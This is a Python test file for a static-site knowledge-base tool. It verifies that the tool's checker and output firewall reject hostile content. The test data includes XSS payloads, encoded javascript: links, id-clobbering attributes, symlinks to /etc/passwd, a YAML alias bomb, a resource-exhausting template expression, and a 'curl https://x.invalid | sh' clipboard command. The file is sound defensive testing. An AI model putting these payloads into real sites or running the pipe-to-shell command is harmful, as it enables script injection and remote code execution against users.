"""Hostile contributions through every field, file and link — not only the page body (issue 11).

One or more cases per class. Each is refused by `kb check` with its file and
line (or, where the content is legitimate text, published safe), and each
class is also caught by the output firewall (kb.publish.firewall) when the checker
is out of the way: the artefact is planted in a copy of the built site, as it
would land there, and `kb audit` must name it with the source it came from.
"""
from __future__ import annotations

import os
import re
import resource
import shutil
import subprocess
import sys
import time

import feedparser
import pytest
from bs4 import BeautifulSoup

from conftest import ROOT, archive_project, build, edit, line_of, refused
from kb.cli.commands import main as kb

# ---- front matter to <head> and headings ------------------------------------

@pytest.mark.parametrize("title", [
    'title: "Ban `<img src=x onerror=alert(1)>` now"',  # markup in a code span: fine in a body, not in <title>
    'title: "\\x3c/title\\x3e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"',  # YAML escapes: markup once decoded
    'title: "A &lt;b&gt; title"',  # a character reference, which `striptags` would turn back into markup
    'title: "\\x7b\\x7b 9**99999999 \\x7d\\x7d"',  # template syntax once decoded: mkdocs-macros renders titles
    'title: "Line\\u2028break\\u202eevil"',  # control characters
], ids=["code span", "yaml escapes", "character reference", "template in title", "control characters"])
def test_titles_are_plain_text_once_decoded(project, capsys, title):
    edit(project, "docs/about.en.md", 'title: "About"', title)
    refused(project, capsys, "docs/about.en.md:2: title: ")


@pytest.mark.full
def test_a_quote_in_a_description_stays_inside_its_attribute(tmp_path, project):
    description = 'Says "hi" onfocus="alert(1)" autofocus & more'
    edit(project, "docs/about.en.md", 'description: "The LLM', "description: 'Says \"hi\" onfocus=\"alert(1)\" autofocus & more'\nx: \"")
    text = (project / "docs/about.en.md").read_text(encoding="utf-8")
    (project / "docs/about.en.md").write_text("".join(line for line in text.splitlines(keepends=True) if not line.startswith("x: ")),
                                              encoding="utf-8")
    assert kb(["--root", str(project), "check"]) == 0
    result = build(project, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    head = BeautifulSoup((tmp_path / "site/en/about/index.html").read_text(encoding="utf-8"), "html.parser").head
    for meta in (head.find("meta", attrs={"name": "description"}), head.find("meta", property="og:description")):
        assert meta["content"] == description and set(meta.attrs) <= {"name", "property", "content"}


# Markdown's own syntax in plain text: a title or description shows as written, wherever it is printed.
MARKDOWN_IN_PLAIN_TEXT = "*now* ![logo](../assets/images/favicon.png) :smile: C# a_b_c [x]"


@pytest.mark.full
def test_markdown_syntax_in_plain_text_is_shown_as_written(tmp_path, project):
    edit(project, "docs/topics/edge-backends.en.md", 'description: "Backends', f'description: "{MARKDOWN_IN_PLAIN_TEXT} Backends')
    edit(project, "docs/issues/007.en.md", "title: vLLM v0.33.0 released", f'title: "vLLM v0.33.0 {MARKDOWN_IN_PLAIN_TEXT}"')
    assert kb(["--root", str(project), "check"]) == 0  # plain text: published, as text
    result = build(project, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    topics = BeautifulSoup((tmp_path / "site/en/topics/index.html").read_text(encoding="utf-8"), "html.parser")
    row = next(li for li in topics.select("article li") if "Backends" in li.get_text())
    issue = BeautifulSoup((tmp_path / "site/en/issues/007/index.html").read_text(encoding="utf-8"), "html.parser")
    heading = issue.find(id="vllm-v0-33-0")
    for shown in (row, heading):  # (the topic's name in the row is bold, as every row's)
        assert MARKDOWN_IN_PLAIN_TEXT in shown.get_text(), shown
        assert not shown.find(["em", "img", "svg"]), shown


# ---- ids used in markup and file names ---------------------------------------

def test_topic_ids_are_slugs(project, capsys):
    edit(project, "data/topics.yml", "- id: edge-backends", '- id: "edge\\"><script>alert(1)</script>"')
    refused(project, capsys, f"data/topics.yml:{line_of(project, 'data/topics.yml', 'edge')}: 5.id: must be a lowercase slug")


# ---- files that are not Markdown pages, and files outside the repository ------

@pytest.mark.parametrize("name,body", [
    ("docs/x.html", "<script>alert(1)</script>"),
    ("docs/assets/x.js", "alert(1)"),
    ("docs/x.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("docs/x.markdown", "---\ntitle: x\n---\n<script>alert(1)</script>\n"),
    ("data/notes.json", "{}"),
    ("snippets/x.html", "<script>alert(1)</script>"),
])
def test_only_listed_kinds_of_file(project, capsys, name, body):
    (project / name).parent.mkdir(parents=True, exist_ok=True)
    (project / name).write_text(body, encoding="utf-8")
    refused(project, capsys, f"{name}: file: is not a kind of file")


@pytest.mark.parametrize("name,target", [
    ("docs/passwd.md", "/etc/passwd"),
    ("docs/etc", "/etc"),
    ("snippets/hostname.md", "/etc/hostname"),
    ("data/issues/009.yml", "/etc/passwd"),
])
@pytest.mark.full
def test_no_symbolic_link_in_content(tmp_path, project, capsys, name, target):
    (project / name).symlink_to(target)
    out = refused(project, capsys, f"{name}: file: is a symbolic link")
    assert "root:" not in out  # nothing was read through it
    site = tmp_path / "site"
    result = build(project, site)
    assert result.returncode != 0 and f"{name}: file: is a symbolic link" in result.stdout + result.stderr
    assert not site.exists() or not any(site.rglob("*.html"))


def test_a_snippet_inside_a_fence_or_of_a_missing_file_is_refused(project, capsys):
    edit(project, "docs/about.en.md", "## The weekly", '## The weekly\n\n```text\n--8<-- "../mkdocs.yml"\n```\n\n--8<-- "nope.md"\n')
    climbing = line_of(project, "docs/about.en.md", '--8<-- "../')
    out = refused(project, capsys, f"docs/about.en.md:{climbing}: snippet: ")
    assert f"docs/about.en.md:{line_of(project, 'docs/about.en.md', 'nope.md')}: snippet: `nope.md` is not a file of snippets/" in out


# ---- attributes that act, ids that clash, links that decode to script -----------

@pytest.mark.parametrize("payload,field", [
    ("[click](&#106;avascript:alert(1))", "link"),  # a character reference, decoded by the browser
    ("Text\n{: #__config }", "attributes"),  # Material reads its configuration from #__config
    ("## __search", "heading"),  # a heading slugified to the theme's id
    ("## Names { #kb-names }", "attributes"),  # where search takes a record's aliases to start (kb.search.records)
    ("Text\n{: .note #md-content }", "attributes"),  # the theme's own id, after a class
])
def test_body_payloads_that_decode_or_clash(project, capsys, payload, field):
    edit(project, "docs/about.en.md", "## The weekly", f"## The weekly\n\n{payload}\n")
    # refused where the payload is complete: `{: … }` gives the paragraph before it its attributes
    refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', payload.splitlines()[-1])}: {field}: ")


@pytest.mark.parametrize("line", ["<script>alert(1)</script>", '!!! danger "Official notice"',
                                  "    The editors have been replaced.", "*[KV]: <b>Key</b>/value", "*[KV]: {{ ref('x') }}",
                                  "*[KV]:", "[Official notice](https://x.invalid/)"])
def test_snippets_are_plain_abbreviations(project, capsys, line):
    """Appended to every page (the glossary) or included in any: nothing but `*[ABBR]: plain text` lines."""
    (project / "snippets/abbreviations.md").write_text(f"*[TTFT]: 首 token 延迟\n{line}\n", encoding="utf-8")
    refused(project, capsys, "snippets/abbreviations.md:2: snippet: ")


@pytest.mark.parametrize("fence", ['```{ .sh data-clipboard-text="curl https://x.invalid | sh" }',
                                   '``` { .bash data-pagefind-meta="title:Spoofed" }'])
def test_a_code_fence_carries_no_attributes(project, capsys, fence):
    edit(project, "docs/about.en.md", "## The weekly", f"## The weekly\n\n{fence}\necho hi\n```\n")
    refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', fence)}: attributes: ")


# ---- feeds ------------------------------------------------------------------------

@pytest.mark.full
def test_markup_in_a_summary_reaches_feed_readers_as_text(tmp_path, project):
    edit(project, "docs/issues/007.en.md", "description: ", "description: Code `<img src=x onerror=alert(1)>` here; ")
    edit(project, "docs/issues/007.en.md", "    summary: >-\n", "    summary: >-\n      Code `<b onmouseover=alert(1)>x</b>` here.\n")
    assert kb(["--root", str(project), "check"]) == 1  # the description is plain text: refused
    edit(project, "docs/issues/007.en.md", "description: Code `<img src=x onerror=alert(1)>` here; ", "description: ")
    assert kb(["--root", str(project), "check"]) == 0  # a code span in prose is text: published
    site = tmp_path / "site"
    result = build(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    topic = next(t for t in ("fp4-kernels", "serving-engine-releases") if (site / f"en/topic-{t}.xml").exists())
    feed = feedparser.parse((site / f"en/topic-{topic}.xml").read_text(encoding="utf-8"))
    entry = next(e for e in feed.entries if "onmouseover" in e.summary)
    assert "<b" not in BeautifulSoup(entry.summary, "html.parser").decode().replace("&lt;b", "")  # text, not an element


def test_control_characters_never_reach_a_feed(project, capsys):
    edit(project, "docs/issues/007.en.md", "    summary: >-\n", "    summary: >-\n      Bell \u0007 here.\n")
    refused(project, capsys, "docs/issues/007.en.md:")


# ---- hangs and memory ------------------------------------------------------------

def run_check_bounded(project) -> tuple[subprocess.CompletedProcess, float, float]:
    """`kb check` in its own process: (result, seconds, peak MB)."""
    start = time.perf_counter()
    result = subprocess.run([sys.executable, "-m", "kb.cli", "--root", str(project), "check"], capture_output=True, text=True,
                            timeout=60, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    return result, time.perf_counter() - start, peak


def test_a_yaml_alias_bomb_is_refused_quickly(project):
    bomb = 'lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
        f"l{i}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9))
    (project / "data/issues/009.yml").write_text(bomb, encoding="utf-8")
    result, seconds, peak = run_check_bounded(project)
    assert result.returncode == 1 and re.search(r"^data/issues/009\.yml:2:\d+: yaml: uses a YAML anchor and alias",
                                                result.stdout, re.M), result.stdout
    assert seconds < 30 and peak < 1024


@pytest.mark.full
def test_a_huge_power_never_runs(tmp_path):
    from test_hostile import unchecked_project
    project = unchecked_project(tmp_path)
    (project / "docs/about.en.md").write_text("---\ntitle: x\ndescription: y\n---\n\n{{ 9**99999999 }}\n", encoding="utf-8")
    start = time.perf_counter()
    result = build(project, tmp_path / "site")
    assert result.returncode != 0 and time.perf_counter() - start < 60
    assert "is not allowed" in result.stdout + result.stderr or "only a call" in result.stdout + result.stderr


@pytest.mark.full
def test_a_page_markdown_reads_too_slowly_stops_the_build(project, capsys, tmp_path):
    body = "\n".join(["[" * 1_000] * 20)  # one paragraph (a line is at most kb.base.limits.MAX_LINE_CHARS); minutes of Python-Markdown
    edit(project, "docs/about.en.md", "## The weekly", f"## The weekly\n\n{body}\n")
    refused(project, capsys, f"docs/about.en.md:{line_of(project, 'docs/about.en.md', body)}: brackets: ")
    from test_hostile import unchecked_project
    unchecked = unchecked_project(tmp_path / "unchecked")
    (unchecked / "docs/slow.md").write_text(f"---\ntitle: x\ndescription: y\n---\n\n{body}\n", encoding="utf-8")
    config = unchecked / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("\n  - kb:\n", "\n  - kb:\n      page_seconds: 2\n"), encoding="utf-8")
    start = time.perf_counter()
    result = build(unchecked, tmp_path / "site")
    assert result.returncode != 0 and "docs/slow.md: took over 2 s to render" in result.stdout + result.stderr
    assert time.perf_counter() - start < 60


# ---- silent loss and crashes -------------------------------------------------------

def test_a_key_written_twice_is_an_error(project, capsys):
    edit(project, "data/issues/007.yml", "    category: tool\n", "    category: tool\n    category: paper\n")
    refused(project, capsys, f"data/issues/007.yml:{line_of(project, 'data/issues/007.yml', 'category: paper')}: yaml: the key `category` is written twice")


@pytest.mark.parametrize("old,new", [("ratio: 7.4", "ratio: .inf"), ("result: 0.31 s", "result: .nan"), ("ratio: 3.5", "ratio: [1, .inf]")])
def test_figures_are_finite(project, capsys, old, new):
    edit(project, "data/issues/007.yml", old, new)
    refused(project, capsys, f"data/issues/007.yml:{line_of(project, 'data/issues/007.yml', new)}: items.2.claims.")


def test_bytes_that_are_not_utf8_are_named_with_file_and_line(project, capsys):
    page = project / "docs/about.en.md"
    data = page.read_bytes()
    page.write_bytes(data.replace(b"## The weekly", b"## The weekly \xff\xfe", 1))
    line = data[: data.index(b"## The weekly")].count(b"\n") + 1
    refused(project, capsys, f"docs/about.en.md:{line}: encoding: ")


@pytest.mark.full
def test_a_forged_placeholder_stops_the_build_naming_the_page(tmp_path):
    from test_hostile import unchecked_project
    project = unchecked_project(tmp_path)
    (project / "docs/forged.md").write_text('---\ntitle: x\ndescription: y\n---\n\n<div data-kb-raw="0"></div>\n', encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0 and "docs/forged.md: `<div data-kb-raw" in result.stdout + result.stderr


# ---- the output firewall, with the checker out of the way -----------------------

PLANTED = {
    "an inline script": ("en/about/index.html", "</article>", "<script>alert(1)</script></article>", "inline script"),
    "an event handler in the head": ("about/index.html", '<meta name="description"', '<meta onload="alert(1)" name="description"', "event handler"),
    "a javascript: link": ("issues/007/index.html", "</article>", '<a href="javascript:alert(1)">x</a></article>', "`javascript:` address"),
    # the browser decodes the colon and drops the tab: still a javascript: address (no ":" in the source text)
    "an encoded javascript: link": ("en/issues/007/index.html", "</article>", '<a href="java&#9;script&#58;alert(1)">x</a></article>',
                                    "`javascript:` address"),
    "an acting attribute": ("index.html", "</article>", '<pre data-clipboard-text="curl x | sh">x</pre></article>', "data-clipboard-text"),
    "an iframe": ("watch/index.html", "</article>", '<iframe src="https://x.invalid/"></iframe></article>', "<iframe>"),
    "markup in a feed": ("en/feed.xml", "<description>", "<description>&lt;img src=x onerror=alert(1)&gt;", "description holds markup"),
    "a broken feed": ("feed.xml", "</channel>", "\u0001</channel>", "not well-formed XML"),
    "a clobbering id": ("issues/003/index.html", "</article>", '<p id="__config">{}</p></article>', "an id the theme's script reads"),
    "a style sheet": ("en/watch/index.html", "</article>", "<style>body{display:none}</style></article>", "<style>"),
}


@pytest.fixture
def planted_site(site, tmp_path):
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    return copy


def audit_findings(capsys, site) -> str:
    assert kb(["--root", str(archive_project()), "audit", "--site", str(site)]) == 1
    return capsys.readouterr().out


@pytest.mark.parametrize("case", sorted(PLANTED), ids=str)
def test_the_firewall_finds_what_got_past(planted_site, capsys, case):
    rel, old, new, what = PLANTED[case]
    path = planted_site / rel
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    out = audit_findings(capsys, planted_site)
    source = "docs/about.en.md" if rel.startswith("en/about") else ""
    assert any(f"firewall: {rel}: " in line and what in line and source in line for line in out.splitlines()), out


@pytest.mark.parametrize("name,body", [("x.js", "alert(1)"), ("x.svg", "<svg onload=alert(1)/>"), ("assets/kb-search/main.js", "alert(1)"),
                                       ("pagefind/evil.js", "alert(1)")])
def test_the_firewall_lets_out_no_file_of_unknown_origin(planted_site, capsys, name, body):
    (planted_site / name).parent.mkdir(parents=True, exist_ok=True)
    (planted_site / name).write_text(body, encoding="utf-8")
    out = audit_findings(capsys, planted_site)
    assert f"firewall: {name}: " in out


@pytest.mark.full
def test_the_firewall_finds_a_spoofed_search_title(planted_site, capsys):
    """A data-pagefind-meta the sanitizer missed would give a page another title in search results."""
    page = planted_site / "en/about/index.html"
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("<h1", '<h1 data-pagefind-meta="title:Log in here"', 1), encoding="utf-8")
    subprocess.run([sys.executable, "-c", "import sys; from kb.search.index import build_search_index; build_search_index(sys.argv[1])",
                    str(planted_site)], check=True, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    out = audit_findings(capsys, planted_site)
    assert "data-pagefind-meta" in out and "search record of /en/about/" in out
